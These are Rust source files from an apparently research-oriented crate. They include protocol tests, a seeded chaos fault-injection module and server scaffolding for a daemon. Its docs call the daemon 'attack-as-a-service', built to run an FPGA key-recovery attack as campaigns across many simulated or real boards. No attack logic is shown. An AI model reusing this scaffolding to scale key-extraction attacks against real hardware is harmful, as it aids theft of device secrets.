pub fn is_ok(line: &str) -> bool {
    line.starts_with("{\"ok\":true")
}

/// Whether a line is a `tail` terminator.
#[must_use]
pub fn is_tail_done(line: &str) -> bool {
    is_ok(line) && line.contains("\"done\":true")
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn requests_round_trip_through_their_line_form() {
        let spec = SessionSpec::builder().noisy(true).seed(3).batch(8).build().unwrap();
        let requests = [
            Request::Submit { spec: spec.clone(), token: None },
            Request::Submit { spec, token: Some("c1a2-0007".into()) },
            Request::Status("s000001".into()),
            Request::List,
            Request::Tail { id: "s000002".into(), from: 0 },
            Request::Tail { id: "s000002".into(), from: 1234 },
            Request::Cancel("s000003".into()),
            Request::Counters,
            Request::Health,
            Request::Ping,
            Request::Shutdown,
        ];
        for request in requests {
            let line = request.to_line();
            assert_eq!(Request::parse(&line).expect("parses"), request, "{line}");
        }
    }

    #[test]
    fn malformed_requests_fail_typed() {
        assert_eq!(Request::parse("status").unwrap_err(), WireError::MissingArgument("session id"));
        assert_eq!(Request::parse("frob x").unwrap_err(), WireError::UnknownVerb("frob".into()));
        assert!(matches!(Request::parse("submit votes=2").unwrap_err(), WireError::BadSpec(_)));
        let long = format!("status {}", "x".repeat(MAX_LINE));
        assert!(matches!(Request::parse(&long).unwrap_err(), WireError::LineTooLong(_)));
    }

    #[test]
    fn submit_tokens_and_tail_cursors_are_validated() {
        assert!(matches!(
            Request::parse("submit token= seed=1").unwrap_err(),
            WireError::BadToken(_)
        ));
        assert!(matches!(
            Request::parse("submit token=no/slash seed=1").unwrap_err(),
            WireError::BadToken(_)
        ));
        let oversized = format!("submit token={} seed=1", "t".repeat(MAX_TOKEN + 1));
        assert!(matches!(Request::parse(&oversized).unwrap_err(), WireError::BadToken(_)));
        assert_eq!(
            Request::parse("submit token=abc").unwrap_err(),
            WireError::MissingArgument("session spec")
        );
        assert!(matches!(
            Request::parse("tail s000001 from=xyz").unwrap_err(),
            WireError::BadCursor(_)
        ));
        assert!(matches!(Request::parse("tail s000001 99").unwrap_err(), WireError::BadCursor(_)));
    }

    #[test]
    fn decode_line_rejects_binary_and_oversized_frames_typed() {
        assert_eq!(decode_line(b"ping").expect("decodes"), Request::Ping);
        assert_eq!(decode_line(b"pin\x87g").unwrap_err(), WireError::NotUtf8);
        let oversized = vec![0xFFu8; MAX_LINE + 1];
        assert!(matches!(decode_line(&oversized).unwrap_err(), WireError::LineTooLong(_)));
    }

    #[test]
    fn heartbeats_are_ok_but_not_events_or_terminators() {
        let hb = heartbeat_json(3);
        assert!(is_ok(&hb));
        assert!(is_heartbeat(&hb));
        assert!(!is_tail_done(&hb));
        assert!(!is_heartbeat("{\"seq\":0,\"event\":\"trace_start\"}"));
        let deduped = submit_deduped_json("s000001");
        assert!(is_ok(&deduped));
        assert!(deduped.contains("\"deduped\":true"));
    }

    #[test]
    fn result_json_round_trips() {
        let stats = CellStats { physical: 545, logical: 123, retries: 4, backoff_ms: 90 };
        let line = result_json(SessionState::Exhausted, &stats, "budget \"cut\"\nat phase 4");
        let (state, parsed, note) = parse_result_json(&line).expect("parses");
        assert_eq!(state, SessionState::Exhausted);
        assert_eq!(parsed, stats);
        assert_eq!(note, "budget \"cut\"\nat phase 4");
    }

    #[test]
    fn status_json_carries_the_accounting() {
        let status = SessionStatus {
            id: "s000007".into(),
            state: SessionState::Running,
            worker: Some(2),
            steals: 1,
            stats: CellStats { physical: 10, logical: 4, retries: 0, backoff_ms: 0 },
            note: String::new(),
        };
        let line = status_json(&status);
        assert!(is_ok(&line));
        assert_eq!(string_field(&line, "id").as_deref(), Some("s000007"));
        assert_eq!(string_field(&line, "state").as_deref(), Some("running"));
        assert_eq!(number_field(&line, "worker"), Some(2));
        assert_eq!(number_field(&line, "physical"), Some(10));
        let list = list_json(&[status.clone(), status]);
        assert!(is_ok(&list));
        assert_eq!(list.matches("s000007").count(), 2);
    }

    #[test]
    fn health_json_carries_bands_and_the_fault_gap() {
        use super::super::health::BoardScore;
        let rows = [
            WorkerHealth { worker: 0, score: BoardScore::default() },
            WorkerHealth {
                worker: 1,
                score: BoardScore { sessions: 2, loads: 100, faults: 40, dead: true },
            },
        ];
        let line = health_json(&rows, 17);
        assert!(is_ok(&line));
        assert_eq!(number_field(&line, "fault_gap"), Some(17));
        assert!(line.contains("\"health\":\"healthy\""));
        assert!(line.contains("\"health\":\"dead\""));
        assert!(line.contains("\"fault_milli\":400"));
    }

    #[test]
    fn tail_terminator_is_distinguishable_from_telemetry_events() {
        let status = SessionStatus {
            id: "s000001".into(),
            state: SessionState::Recovered,
            worker: None,
            steals: 0,
            stats: CellStats::default(),
            note: String::new(),
        };
        let done = tail_done_json(&status);
        assert!(is_tail_done(&done));
        assert!(!is_tail_done("{\"seq\":0,\"event\":\"trace_start\"}"));
    }
}
