//! The attack-as-a-service fleet layer: session specs, a
//! work-stealing scheduler, and a line-protocol server/client pair.
//!
//! The paper's attack is cheap per query but campaign-shaped in
//! practice — 545 configuration loads per key, multiplied across
//! noise grids and (eventually) many targets — so the natural serving
//! shape is a long-running daemon that shards sessions across a pool
//! of simulated boards, not a one-shot CLI. This module provides that
//! daemon in layers:
//!
//! * [`session`] — the redesigned public facade: a validating
//!   [`SessionSpec`](session::SessionSpec) builder and one engine
//!   ([`SessionSpec::run_against`](session::SessionSpec::run_against))
//!   every execution path shares;
//! * [`layout`] — the typed on-disk session directory (journal,
//!   trace, spec, result) with atomic creation;
//! * [`store`] — the in-memory session table:
//!   [`SessionHandle`](store::SessionHandle)s to poll/await/cancel
//!   and tap live telemetry;
//! * [`scheduler`] — the work-stealing worker pool
//!   ([`Fleet`](scheduler::Fleet)): per-worker queues, steal-on-idle,
//!   kill-and-steal recovery over the crash-safe journals;
//! * [`health`] — board-health scoring from injected-fault telemetry,
//!   durable quarantine of dead boards, session migration to healthy
//!   peers and the boot re-probe;
//! * [`chaos`] — seeded wire-and-disk fault injection
//!   ([`ChaosStream`](chaos::ChaosStream) transport wrapper, torn-write
//!   simulation) that the hardened client/server are tested under;
//! * [`wire`] — the framed line protocol (`submit`/`status`/`tail`/
//!   `cancel`/…) shared by server and client;
//! * [`server`] / [`client`] — `bitmod serve` and the thin
//!   `submit`/`status`/`tail` client over TCP or Unix sockets;
//! * [`sweep`] — the validating sweep-grid builder the noise-sweep
//!   binary and batch submissions share.

pub mod chaos;
pub mod client;
pub mod health;
pub mod layout;
pub mod scheduler;
pub mod server;
pub mod session;
pub mod store;
pub mod sweep;
pub mod wire;

pub use chaos::{ChaosListener, ChaosProfile, ChaosStream, NetStream};
pub use client::{ClientConfig, ClientError, FleetClient};
pub use health::{BoardHealth, BoardScore, WorkerHealth};
pub use layout::{LayoutError, OutputPaths, SessionLayout};
pub use scheduler::{Fleet, FleetConfig};
pub use server::{Endpoint, FleetServer};
pub use session::{
    ConfigError, ResumePolicy, SessionError, SessionIo, SessionOutcome, SessionReport, SessionSpec,
    SessionSpecBuilder,
};
pub use store::{SessionHandle, SessionState, SessionStatus};
pub use sweep::{SweepCell, SweepGrid, SweepGridBuilder};
pub use wire::{Request, WireError};
