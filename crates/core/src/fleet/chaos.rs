//! Seeded, deterministic fault injection for the fleet's wire and
//! disk.
//!
//! The attack's resilience story covered the *oracle* (PR 2/7: seeded
//! board faults) and the *process* (PR 3/6: crash-safe journals,
//! kill-and-steal) but treated the transport between client and
//! daemon, and the filesystem under the journals, as reliable. Real
//! campaigns run over flaky links to board farms where drops are the
//! norm, so this module makes the delivery channel itself a fault
//! surface — with the same discipline [`fpga_sim::UnreliableBoard`]
//! established: every fault is drawn from a counter-keyed RNG stream
//! (`(seed, connection, direction, operation)`), so a chaos run is a
//! pure function of its seed and replays exactly.
//!
//! Three layers:
//!
//! * [`ChaosStream`] / [`ChaosListener`] — a transport wrapper over
//!   any [`NetStream`] (loopback TCP, Unix sockets, or the in-process
//!   [`duplex`] pair) injecting partial writes, mid-frame disconnects,
//!   garbled and duplicated frames, and read delays on a virtual
//!   clock (surfaced as timeout errors, never wall-clock sleeps);
//! * torn-write simulation ([`simulate_torn_write`], [`truncate_at`])
//!   — materialises every post-crash on-disk state of the journal's
//!   temp-write → fsync → rename sequence, so recovery tests cover
//!   each byte boundary without racing a real crash;
//! * the garbling rule: corruption is always *detectable* (a flipped
//!   high bit makes the byte invalid UTF-8, so the line protocol
//!   rejects the frame instead of parsing an imposter request) —
//!   chaos must never be able to turn one valid request into a
//!   different valid request, or the determinism pin would be
//!   unsound.

use std::io::{self, Read, Write};
use std::net::TcpStream;
#[cfg(unix)]
use std::os::unix::net::UnixStream;
use std::path::Path;
use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
use std::sync::{Arc, Condvar, Mutex};
use std::time::Duration;

use rand::{counter_rng, Rng, RngCore};

/// A bidirectional byte stream the fleet can serve over: both socket
/// families, the chaos wrapper, and the in-process [`duplex`] pair.
/// The one capability beyond `Read + Write` is cloning into an
/// independently-owned handle (the server splits each connection into
/// a reader and a writer half).
pub trait NetStream: Read + Write + Send {
    /// Clones the stream into a second handle over the same
    /// connection (both halves see the same fault schedule when
    /// chaos-wrapped).
    ///
    /// # Errors
    ///
    /// The underlying clone error.
    fn try_clone_stream(&self) -> io::Result<Box<dyn NetStream>>;
}

impl NetStream for TcpStream {
    fn try_clone_stream(&self) -> io::Result<Box<dyn NetStream>> {
        Ok(Box::new(self.try_clone()?))
    }
}

#[cfg(unix)]
impl NetStream for UnixStream {
    fn try_clone_stream(&self) -> io::Result<Box<dyn NetStream>> {
        Ok(Box::new(self.try_clone()?))
    }
}

/// How flaky a chaos transport is: per-operation fault probabilities,
/// all drawn from counter-keyed streams under one seed. Rates are
/// clamped to `[0, 1]`; the zero profile injects nothing.
#[derive(Debug, Clone, Copy, PartialEq)]
pub struct ChaosProfile {
    /// The chaos seed (fault schedule is a pure function of it).
    pub seed: u64,
    /// Mid-frame disconnect probability per write: a random prefix of
    /// the buffer reaches the wire, then the connection dies.
    pub drop_rate: f64,
    /// Short-write probability per write (the transport accepts only
    /// half the buffer; callers must loop).
    pub partial_rate: f64,
    /// Byte-garble probability per write (one byte's high bit flips —
    /// detectably invalid UTF-8, see the module docs).
    pub garble_rate: f64,
    /// Injected read-delay probability (surfaced as a timeout error
    /// and a virtual-clock tick, never a wall-clock sleep).
    pub delay_rate: f64,
    /// Duplicated-write probability (the buffer reaches the wire
    /// twice).
    pub dup_rate: f64,
}

impl ChaosProfile {
    /// The quiet profile under `seed`: all rates zero.
    #[must_use]
    pub fn new(seed: u64) -> Self {
        Self {
            seed,
            drop_rate: 0.0,
            partial_rate: 0.0,
            garble_rate: 0.0,
            delay_rate: 0.0,
            dup_rate: 0.0,
        }
    }

    /// Sets the mid-frame disconnect rate.
    #[must_use]
    pub fn with_drop(mut self, rate: f64) -> Self {
        self.drop_rate = clamp_rate(rate);
        self
    }

    /// Sets the short-write rate.
    #[must_use]
    pub fn with_partial(mut self, rate: f64) -> Self {
        self.partial_rate = clamp_rate(rate);
        self
    }

    /// Sets the byte-garble rate.
    #[must_use]
    pub fn with_garble(mut self, rate: f64) -> Self {
        self.garble_rate = clamp_rate(rate);
        self
    }

    /// Sets the injected read-delay rate.
    #[must_use]
    pub fn with_delay(mut self, rate: f64) -> Self {
        self.delay_rate = clamp_rate(rate);
        self
    }

    /// Sets the duplicated-write rate.
    #[must_use]
    pub fn with_dup(mut self, rate: f64) -> Self {
        self.dup_rate = clamp_rate(rate);
        self
    }

    /// Whether this profile can inject anything at all.
    #[must_use]
    pub fn is_active(&self) -> bool {
        [self.drop_rate, self.partial_rate, self.garble_rate, self.delay_rate, self.dup_rate]
            .iter()
            .any(|&r| r > 0.0)
    }
}

fn clamp_rate(rate: f64) -> f64 {
    if rate.is_nan() {
        0.0
    } else {
        rate.clamp(0.0, 1.0)
    }
}

/// Allocates per-connection chaos state: each wrapped stream gets the
/// next connection index, so the whole accept sequence replays under
/// one seed. Also the aggregation point for the injected-fault and
/// virtual-clock counters the server surfaces as
/// `fleet.net.chaos_faults`.
#[derive(Debug)]
pub struct ChaosListener {
    profile: ChaosProfile,
    next_conn: AtomicU64,
    faults: Arc<AtomicU64>,
    clock: Arc<AtomicU64>,
}

impl ChaosListener {
    /// A listener-side wrapper factory under `profile`.
    #[must_use]
    pub fn new(profile: ChaosProfile) -> Self {
        Self {
            profile,
            next_conn: AtomicU64::new(0),
            faults: Arc::new(AtomicU64::new(0)),
            clock: Arc::new(AtomicU64::new(0)),
        }
    }

    /// The profile this listener injects.
    #[must_use]
    pub fn profile(&self) -> ChaosProfile {
        self.profile
    }

    /// Wraps one accepted stream; the wrapper owns the connection's
    /// fault schedule (counter-keyed by the connection index this call
    /// allocates).
    pub fn wrap(&self, inner: Box<dyn NetStream>) -> ChaosStream {
        let conn = self.next_conn.fetch_add(1, Ordering::SeqCst);
        ChaosStream {
            inner,
            state: Arc::new(ChaosShared {
                profile: self.profile,
                conn,
                writes: AtomicU64::new(0),
                reads: AtomicU64::new(0),
                dead: AtomicBool::new(false),
                faults: self.faults.clone(),
                clock: self.clock.clone(),
            }),
        }
    }

    /// Total faults injected across every wrapped connection.
    #[must_use]
    pub fn faults_injected(&self) -> u64 {
        self.faults.load(Ordering::SeqCst)
    }

    /// The virtual clock: injected read delays to date. No wall time
    /// ever passes for an injected delay — it surfaces as a timeout
    /// error and one tick here.
    #[must_use]
    pub fn clock_ticks(&self) -> u64 {
        self.clock.load(Ordering::SeqCst)
    }
}

/// Per-connection state shared by the reader and writer halves, so a
/// disconnect injected on one half kills both and the operation
/// counters stay a single sequence per direction.
#[derive(Debug)]
struct ChaosShared {
    profile: ChaosProfile,
    conn: u64,
    writes: AtomicU64,
    reads: AtomicU64,
    dead: AtomicBool,
    faults: Arc<AtomicU64>,
    clock: Arc<AtomicU64>,
}

/// Which faults one operation draws. All five rolls happen for every
/// operation in a fixed order, so enabling one fault class never
/// shifts another's schedule — the same draw-order discipline
/// [`fpga_sim::UnreliableBoard`] uses.
struct Faults {
    dup: bool,
    garble: bool,
    partial: bool,
    drop: bool,
    delay: bool,
    rng: rand::rngs::SmallRng,
}

impl ChaosShared {
    fn draw(&self, dir: u64, op: u64) -> Faults {
        let mut rng =
            counter_rng(self.profile.seed, self.conn.wrapping_mul(2).wrapping_add(dir), op);
        let mut roll = || (rng.next_u64() >> 11) as f64 / (1u64 << 53) as f64;
        let dup = roll() < self.profile.dup_rate;
        let garble = roll() < self.profile.garble_rate;
        let partial = roll() < self.profile.partial_rate;
        let drop = roll() < self.profile.drop_rate;
        let delay = roll() < self.profile.delay_rate;
        Faults { dup, garble, partial, drop, delay, rng }
    }

    fn fault(&self) {
        self.faults.fetch_add(1, Ordering::SeqCst);
    }
}

/// A fault-injecting wrapper over any [`NetStream`]. Faults are a
/// pure function of `(profile.seed, connection, direction, op index)`
/// — two runs with the same seed and the same operation sequence see
/// the same partial writes, the same garbled bytes, the same
/// disconnect at the same frame offset.
#[derive(Debug)]
pub struct ChaosStream {
    inner: Box<dyn NetStream>,
    state: Arc<ChaosShared>,
}

impl std::fmt::Debug for Box<dyn NetStream> {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.write_str("NetStream")
    }
}

const DIR_WRITE: u64 = 0;
const DIR_READ: u64 = 1;

impl ChaosStream {
    /// Whether an injected disconnect has killed this connection.
    #[must_use]
    pub fn is_dead(&self) -> bool {
        self.state.dead.load(Ordering::SeqCst)
    }
}

impl Read for ChaosStream {
    fn read(&mut self, buf: &mut [u8]) -> io::Result<usize> {
        if self.state.dead.load(Ordering::SeqCst) {
            return Err(io::Error::new(io::ErrorKind::ConnectionReset, "chaos: connection dead"));
        }
        if buf.is_empty() {
            return self.inner.read(buf);
        }
        let op = self.state.reads.fetch_add(1, Ordering::SeqCst);
        let faults = self.state.draw(DIR_READ, op);
        if faults.delay {
            self.state.fault();
            self.state.clock.fetch_add(1, Ordering::SeqCst);
            return Err(io::Error::new(io::ErrorKind::TimedOut, "chaos: injected delay"));
        }
        if faults.drop {
            self.state.fault();
            self.state.dead.store(true, Ordering::SeqCst);
            return Err(io::Error::new(io::ErrorKind::ConnectionReset, "chaos: read drop"));
        }
        if faults.partial && buf.len() > 1 {
            // A short read: the transport hands over half the buffer.
            // Benign for correct callers (BufRead loops), but it
            // shifts framing boundaries around, which is the point.
            self.state.fault();
            let half = buf.len() / 2;
            return self.inner.read(&mut buf[..half]);
        }
        self.inner.read(buf)
    }
}

impl Write for ChaosStream {
    fn write(&mut self, buf: &[u8]) -> io::Result<usize> {
        if self.state.dead.load(Ordering::SeqCst) {
            return Err(io::Error::new(io::ErrorKind::BrokenPipe, "chaos: connection dead"));
        }
        if buf.is_empty() {
            return self.inner.write(buf);
        }
        let op = self.state.writes.fetch_add(1, Ordering::SeqCst);
        let mut faults = self.state.draw(DIR_WRITE, op);
        if faults.drop {
            // Mid-frame disconnect: a random prefix reaches the wire,
            // then the connection dies — the peer sees a torn frame.
            self.state.fault();
            let k = faults.rng.gen_range(0..buf.len() as u64) as usize;
            let _ = self.inner.write(&buf[..k]);
            let _ = self.inner.flush();
            self.state.dead.store(true, Ordering::SeqCst);
            return Err(io::Error::new(io::ErrorKind::ConnectionReset, "chaos: write drop"));
        }
        if faults.garble {
            // Flip one byte's high bit: detectably invalid UTF-8, so
            // the line protocol rejects the frame rather than parsing
            // an imposter request (see the module docs).
            self.state.fault();
            let mut garbled = buf.to_vec();
            let at = faults.rng.gen_range(0..garbled.len() as u64) as usize;
            garbled[at] ^= 0x80;
            return match self.inner.write(&garbled) {
                // Report the caller's bytes as consumed so it does not
                // resend them clean.
                Ok(n) => Ok(n),
                Err(e) => Err(e),
            };
        }
        if faults.dup {
            self.state.fault();
            self.inner.write_all(buf)?;
            self.inner.write_all(buf)?;
            return Ok(buf.len());
        }
        if faults.partial && buf.len() > 1 {
            self.state.fault();
            let half = buf.len() / 2;
            return self.inner.write(&buf[..half]);
        }
        self.inner.write(buf)
    }

    fn flush(&mut self) -> io::Result<()> {
        if self.state.dead.load(Ordering::SeqCst) {
            return Err(io::Error::new(io::ErrorKind::BrokenPipe, "chaos: connection dead"));
        }
        self.inner.flush()
    }
}

impl NetStream for ChaosStream {
    fn try_clone_stream(&self) -> io::Result<Box<dyn NetStream>> {
        Ok(Box::new(ChaosStream {
            inner: self.inner.try_clone_stream()?,
            state: self.state.clone(),
        }))
    }
}

// ---------------------------------------------------------------------------
// In-process duplex transport
// ---------------------------------------------------------------------------

/// One direction of an in-process pipe.
#[derive(Debug, Default)]
struct PipeState {
    buf: Vec<u8>,
    closed: bool,
}

#[derive(Debug, Default)]
struct Pipe {
    state: Mutex<PipeState>,
    ready: Condvar,
}

impl Pipe {
    fn write(&self, bytes: &[u8]) -> io::Result<usize> {
        let mut state = self.state.lock().expect("pipe lock");
        if state.closed {
            return Err(io::Error::new(io::ErrorKind::BrokenPipe, "duplex closed"));
        }
        state.buf.extend_from_slice(bytes);
        drop(state);
        self.ready.notify_all();
        Ok(bytes.len())
    }

    fn read(&self, buf: &mut [u8], timeout: Option<Duration>) -> io::Result<usize> {
        let mut state = self.state.lock().expect("pipe lock");
        loop {
            if !state.buf.is_empty() {
                let n = buf.len().min(state.buf.len());
                buf[..n].copy_from_slice(&state.buf[..n]);
                state.buf.drain(..n);
                return Ok(n);
            }
            if state.closed {
                return Ok(0);
            }
            state = match timeout {
                Some(t) => {
                    let (guard, result) = self.ready.wait_timeout(state, t).expect("pipe lock");
                    if result.timed_out() && guard.buf.is_empty() && !guard.closed {
                        return Err(io::Error::new(
                            io::ErrorKind::TimedOut,
                            "duplex read timed out",
                        ));
                    }
                    guard
                }
                None => self.ready.wait(state).expect("pipe lock"),
            };
        }
    }

    fn close(&self) {
        self.state.lock().expect("pipe lock").closed = true;
        self.ready.notify_all();
    }
}

/// One endpoint of an in-process [`duplex`] pair: reads from one pipe,
/// writes the other. The chaos unit tests (and any in-process
/// embedding) use this to exercise the transport layer without
/// sockets.
#[derive(Debug, Clone)]
pub struct MemoryStream {
    rx: Arc<Pipe>,
    tx: Arc<Pipe>,
    read_timeout: Option<Duration>,
}

impl MemoryStream {
    /// Sets the read deadline (the socket-equivalent of
    /// `set_read_timeout`).
    pub fn set_read_timeout(&mut self, timeout: Option<Duration>) {
        self.read_timeout = timeout;
    }

    /// Closes both directions: the peer reads EOF, writes fail with a
    /// broken pipe.
    pub fn close(&self) {
        self.rx.close();
        self.tx.close();
    }
}

impl Read for MemoryStream {
    fn read(&mut self, buf: &mut [u8]) -> io::Result<usize> {
        if buf.is_empty() {
            return Ok(0);
        }
        self.rx.read(buf, self.read_timeout)
    }
}

impl Write for MemoryStream {
    fn write(&mut self, buf: &[u8]) -> io::Result<usize> {
        self.tx.write(buf)
    }

    fn flush(&mut self) -> io::Result<()> {
        Ok(())
    }
}

impl NetStream for MemoryStream {
    fn try_clone_stream(&self) -> io::Result<Box<dyn NetStream>> {
        Ok(Box::new(self.clone()))
    }
}

/// An in-process bidirectional stream pair: what one end writes the
/// other reads. Both ends satisfy [`NetStream`], so they compose with
/// [`ChaosListener::wrap`] for socket-free chaos tests.
#[must_use]
pub fn duplex() -> (MemoryStream, MemoryStream) {
    let a_to_b = Arc::new(Pipe::default());
    let b_to_a = Arc::new(Pipe::default());
    (
        MemoryStream { rx: b_to_a.clone(), tx: a_to_b.clone(), read_timeout: None },
        MemoryStream { rx: a_to_b, tx: b_to_a, read_timeout: None },
    )
}

// ---------------------------------------------------------------------------
// Disk chaos: torn-write simulation
// ---------------------------------------------------------------------------

/// Where the crash lands inside the atomic write sequence
/// (`temp write → fsync → rename`) that
/// [`AttackJournal::save`](crate::journal::AttackJournal::save) and
/// the session store's `result.json` writer share.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum TornWritePoint {
    /// Crash mid-way through writing the temp file: `k` bytes of the
    /// new frame on the temp path, the target untouched.
    TempPartial(usize),
    /// Crash after the temp write (and fsync) but before the rename:
    /// the full new frame on the temp path, the target untouched.
    TempComplete,
    /// Crash after the rename: the new frame is the target; no temp
    /// residue.
    Renamed,
}

/// Materialises the post-crash on-disk state of one atomic write of
/// `bytes` to `path`, using the same sibling temp naming the journal's
/// `write_atomic` uses. Recovery code must treat every one of these
/// states as a legitimate boot condition.
///
/// # Errors
///
/// The underlying filesystem error.
pub fn simulate_torn_write(path: &Path, bytes: &[u8], point: TornWritePoint) -> io::Result<()> {
    let tmp = path.with_extension("journal.tmp");
    match point {
        TornWritePoint::TempPartial(k) => {
            std::fs::write(&tmp, &bytes[..k.min(bytes.len())])?;
        }
        TornWritePoint::TempComplete => {
            std::fs::write(&tmp, bytes)?;
        }
        TornWritePoint::Renamed => {
            std::fs::write(&tmp, bytes)?;
            std::fs::rename(&tmp, path)?;
        }
    }
    Ok(())
}

/// Truncates the file at `path` to its first `len` bytes — the
/// byte-boundary torn-write injector the recovery tests sweep.
///
/// # Errors
///
/// The underlying filesystem error.
pub fn truncate_at(path: &Path, len: u64) -> io::Result<()> {
    let file = std::fs::OpenOptions::new().write(true).open(path)?;
    file.set_len(len)?;
    file.sync_all()?;
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;

    fn chaotic_pair(profile: ChaosProfile) -> (ChaosStream, MemoryStream) {
        let listener = ChaosListener::new(profile);
        let (a, b) = duplex();
        (listener.wrap(Box::new(a)), b)
    }

    /// Runs a fixed write schedule through a chaos wrapper and records
    /// what each operation did — the replayable fault trace.
    fn fault_trace(profile: ChaosProfile) -> (Vec<String>, Vec<u8>) {
        let (mut chaotic, mut peer) = chaotic_pair(profile);
        let mut trace = Vec::new();
        for i in 0..64u8 {
            let frame = [i; 16];
            match chaotic.write(&frame) {
                Ok(n) => trace.push(format!("ok:{n}")),
                Err(e) => trace.push(format!("err:{:?}", e.kind())),
            }
        }
        let mut wire = Vec::new();
        peer.set_read_timeout(Some(Duration::from_millis(1)));
        let mut buf = [0u8; 256];
        while let Ok(n) = peer.read(&mut buf) {
            if n == 0 {
                break;
            }
            wire.extend_from_slice(&buf[..n]);
        }
        (trace, wire)
    }

    #[test]
    fn the_fault_schedule_is_a_pure_function_of_the_seed() {
        let profile =
            ChaosProfile::new(42).with_drop(0.05).with_partial(0.3).with_garble(0.1).with_dup(0.1);
        let (trace_a, wire_a) = fault_trace(profile);
        let (trace_b, wire_b) = fault_trace(profile);
        assert_eq!(trace_a, trace_b, "same seed, same fault trace");
        assert_eq!(wire_a, wire_b, "same seed, same bytes on the wire");
        let (trace_c, _) = fault_trace(ChaosProfile { seed: 43, ..profile });
        assert_ne!(trace_a, trace_c, "a different seed draws a different schedule");
        assert!(
            trace_a.iter().any(|t| t != "ok:16"),
            "an aggressive profile injected something: {trace_a:?}"
        );
    }

    #[test]
    fn a_drop_kills_both_halves_and_leaves_a_torn_prefix() {
        let profile = ChaosProfile::new(7).with_drop(1.0);
        let (mut chaotic, mut peer) = chaotic_pair(profile);
        let mut reader = chaotic.try_clone_stream().expect("clones");
        let err = chaotic.write(b"submit seed=3\n").expect_err("drops");
        assert_eq!(err.kind(), io::ErrorKind::ConnectionReset);
        assert!(chaotic.is_dead());
        // The clone shares the dead flag.
        let mut buf = [0u8; 8];
        let err = reader.read(&mut buf).expect_err("dead reads fail");
        assert_eq!(err.kind(), io::ErrorKind::ConnectionReset);
        // Whatever prefix reached the wire is shorter than the frame.
        peer.set_read_timeout(Some(Duration::from_millis(1)));
        let mut wire = Vec::new();
        let mut chunk = [0u8; 64];
        while let Ok(n) = peer.read(&mut chunk) {
            if n == 0 {
                break;
            }
            wire.extend_from_slice(&chunk[..n]);
        }
        assert!(wire.len() < b"submit seed=3\n".len(), "torn frame: {wire:?}");
    }

    #[test]
    fn garbling_is_detectable_as_invalid_utf8() {
        let profile = ChaosProfile::new(11).with_garble(1.0);
        let (mut chaotic, mut peer) = chaotic_pair(profile);
        chaotic.write_all(b"status s000001\n").expect("writes");
        let mut buf = [0u8; 64];
        let n = peer.read(&mut buf).expect("reads");
        assert_eq!(n, 15);
        assert!(
            std::str::from_utf8(&buf[..n]).is_err(),
            "the garbled frame must not decode as UTF-8: {:?}",
            &buf[..n]
        );
    }

    #[test]
    fn delays_tick_the_virtual_clock_without_sleeping() {
        let listener = ChaosListener::new(ChaosProfile::new(3).with_delay(1.0));
        let (a, mut b) = duplex();
        let mut chaotic = listener.wrap(Box::new(a));
        b.write_all(b"hello").expect("peer writes");
        let started = std::time::Instant::now();
        let mut buf = [0u8; 8];
        let err = chaotic.read(&mut buf).expect_err("delay injected");
        assert_eq!(err.kind(), io::ErrorKind::TimedOut);
        assert!(started.elapsed() < Duration::from_millis(50), "no wall-clock sleep");
        assert_eq!(listener.clock_ticks(), 1);
        assert_eq!(listener.faults_injected(), 1);
    }

    #[test]
    fn the_quiet_profile_is_transparent() {
        let (mut chaotic, mut peer) = chaotic_pair(ChaosProfile::new(1));
        assert!(!ChaosProfile::new(1).is_active());
        chaotic.write_all(b"ping\n").expect("writes");
        let mut buf = [0u8; 8];
        let n = peer.read(&mut buf).expect("reads");
        assert_eq!(&buf[..n], b"ping\n");
    }

    #[test]
    fn torn_write_simulation_materialises_each_crash_state() {
        let dir = std::env::temp_dir().join(format!("bitmod-torn-{}", std::process::id()));
        let _ = std::fs::remove_dir_all(&dir);
        std::fs::create_dir_all(&dir).expect("test dir");
        let target = dir.join("attack.journal");
        let tmp = target.with_extension("journal.tmp");

        simulate_torn_write(&target, b"0123456789", TornWritePoint::TempPartial(4))
            .expect("partial");
        assert!(!target.exists());
        assert_eq!(std::fs::read(&tmp).expect("tmp"), b"0123");

        simulate_torn_write(&target, b"0123456789", TornWritePoint::TempComplete).expect("full");
        assert!(!target.exists());
        assert_eq!(std::fs::read(&tmp).expect("tmp"), b"0123456789");

        simulate_torn_write(&target, b"0123456789", TornWritePoint::Renamed).expect("renamed");
        assert_eq!(std::fs::read(&target).expect("target"), b"0123456789");
        assert!(!tmp.exists());

        truncate_at(&target, 3).expect("truncates");
        assert_eq!(std::fs::read(&target).expect("target"), b"012");
        let _ = std::fs::remove_dir_all(&dir);
    }
}
