//! The `bitmod serve` daemon: a line-protocol front end over a
//! [`Fleet`].
//!
//! One thread accepts connections (TCP or — on Unix — a Unix-domain
//! socket); each connection gets a thread speaking the
//! [`wire`](super::wire) protocol: newline-framed requests in, one
//! JSON line out per request, except `tail`, which streams the
//! session's NDJSON telemetry until the session is terminal. The
//! daemon is deliberately boring: all scheduling intelligence lives
//! in the [`Fleet`], all framing in [`wire`], so the server is a
//! dispatch table.
//!
//! The connection layer is hardened against a hostile wire: every
//! connection carries a read deadline (an idle peer is closed and
//! counted, never leaked), a torn frame — bytes without their
//! newline, the signature of a mid-frame disconnect — is rejected
//! *without being parsed*, over-cap and non-UTF-8 frames fail typed
//! and close only their own connection, and `tail` subscribers hold a
//! lease: the stream heartbeats when idle, and a subscriber whose
//! socket stops accepting writes is reaped. `shutdown` drains rather
//! than waits — running sessions checkpoint into their journals,
//! queued sessions stay durable, and the next boot resumes both.
//! With [`FleetServer::with_chaos`], every accepted connection is
//! wrapped in a seeded [`ChaosStream`](super::chaos::ChaosStream) —
//! the self-hosted fault injection the chaos-net tests drive.

use std::io::{self, BufRead, BufReader, Read, Write};
use std::net::{TcpListener, TcpStream};
#[cfg(unix)]
use std::os::unix::net::{UnixListener, UnixStream};
use std::path::PathBuf;
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::Arc;
use std::thread;
use std::time::Duration;

use crate::telemetry::names;

use super::chaos::{ChaosListener, ChaosProfile, NetStream};
use super::scheduler::Fleet;
use super::store::SessionState;
use super::wire::{self, Request, WireError};

/// Default per-connection read deadline: a peer quiet for this long
/// is closed (and counted as `fleet.net.idle_closed`).
